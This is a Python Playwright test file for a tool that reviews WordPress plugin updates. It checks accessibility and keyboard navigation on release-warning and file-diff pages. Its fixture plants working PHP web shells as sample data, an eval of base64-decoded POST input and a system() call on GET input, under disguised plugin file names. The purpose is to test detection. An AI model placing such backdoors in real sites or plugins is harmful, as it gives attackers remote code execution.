"""What a release changes, in a browser: at every width, by keyboard, without scripts."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import replace

import pytest
from playwright.sync_api import Browser, BrowserContext, Page
from werkzeug.serving import make_server

from app import queue
from app.config import Config
from app.domain.actor import Actor
from app.factory import create_app
from app.models.base import db, use_database, utcnow
from app.models.changes import Change
from tests.support.config import make_config
from tests.support.factories import (
    PASSWORD,
    check,
    make_site,
    make_user,
    pair,
    propose,
    read_report,
    report,
)
from tests.support.fakes import Clock, FakeSite, RecordingQueue
from tests.support.page_problems import problems_of
from tests.support.page_steps import sign_in_with
from tests.support.release_reviews import compare, offer

pytestmark = pytest.mark.nightly

_BACKDOOR = "includes/wp-comments-posts.php"
_NEW = {
    _BACKDOOR: b"<?php @eval( base64_decode( $_POST['x'] ) );\n",
    "assets/fonts/loader.php": b"<?php system( $_GET['c'] );\n",
    "bin/deploy.sh": b"#!/bin/sh\n",
    f"views/{'a-rather-deep-folder/' * 4}class-akismet-{'settings-' * 12}page.php": b"<?php\n",
    "inc/long.php": b"<?php // " + b"a-word-without-an-end" * 40 + b"\n",
    "inc/sync.php": b"<?php wp_remote_get( 'https://stats.akismet-cdn.example/v1' );\n"
    b"wp_schedule_event( time(), 'daily', 'akismet_sweep' );\n"
    b"register_rest_route( 'akismet/v2', '/keys/(?P<id>[0-9]+)', [] );\n",
    "readme.txt": b"Requires at least: 6.2\nRequires PHP: 7.4\nTested up to: 7.1\n",
}
_OLD = {"inc/long.php": b"<?php\nold();\n", "old.css": b"a {}\n"}


@pytest.fixture(scope="module")
def served(
    tmp_path_factory: pytest.TempPathFactory, migrated_file: bytes
) -> Iterator[tuple[Config, tuple[str, ...]]]:
    """An Aura with a reviewed update whose release has warnings, and the pages about it."""
    config = make_config(tmp_path_factory.mktemp("releases"))
    (config.var_dir / "aura.db").write_bytes(migrated_file)
    app = create_app(config)
    queue.use(RecordingQueue())
    server = make_server("127.0.0.1", 0, app, threaded=True)
    config = replace(config, origin=f"http://127.0.0.1:{server.server_port}")
    app.config["AURA"] = config
    use_database(config.database_url)
    with db.connection_context():
        change = _review(config)
    page = f"/changes/{change.id}"
    files = (_BACKDOOR, "inc/long.php", "old.css")
    pages = (page, f"/updates/{change.batch}", f"{page}/files", f"{page}/files?part=gone")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield config, (*pages, *(f"{page}/difference?file={file}" for file in files))
    server.shutdown()
    thread.join(10)


def _review(config: Config) -> Change:
    ana, clock = Actor.of(make_user("Ana", "owner"), "192.0.2.1"), Clock(utcnow())
    fake = FakeSite("https://bakery.example", clock, report())
    fake.report["wordpress"] |= {"home": fake.home, "site_url": fake.home}
    site = make_site(ana, now=clock(), url=fake.home)
    pair(site, fake, by=ana, config=config)
    read_report(site, fake, config=config)
    packages = offer(fake, _NEW, _OLD)
    change = check(propose(site, ana, clock()), fake, config)
    assert compare(packages, config, clock) == "done"
    return change


def _sign_in(page: Page, config: Config) -> None:
    page.goto(f"{config.origin}/sign-in")
    sign_in_with(page, "ana@agency.example", PASSWORD)


def test_the_pages_are_accessible_at_every_width(
    context: BrowserContext, served: tuple[Config, tuple[str, ...]]
) -> None:
    config, pages = served
    page, found = context.new_page(), []
    _sign_in(page, config)
    for path in pages:
        page.goto(config.origin + path)
        found += problems_of(page, path)
    assert not found, "\n".join(found)


def test_the_keyboard_reaches_changed_lines_without_scripts(
    browser: Browser, served: tuple[Config, tuple[str, ...]]
) -> None:
    config, pages = served
    plain = browser.new_context(java_script_enabled=False)
    page = plain.new_page()
    _sign_in(page, config)
    page.goto(config.origin + pages[0])
    page.get_by_role("link", name=_BACKDOOR).first.focus()
    page.keyboard.press("Enter")
    page.wait_for_url("**/difference**")
    assert page.get_by_role("heading", name=f"Difference in {_BACKDOOR}").is_visible()
    assert page.get_by_text("@eval( base64_decode( $_POST['x'] ) );").is_visible()
    plain.close()
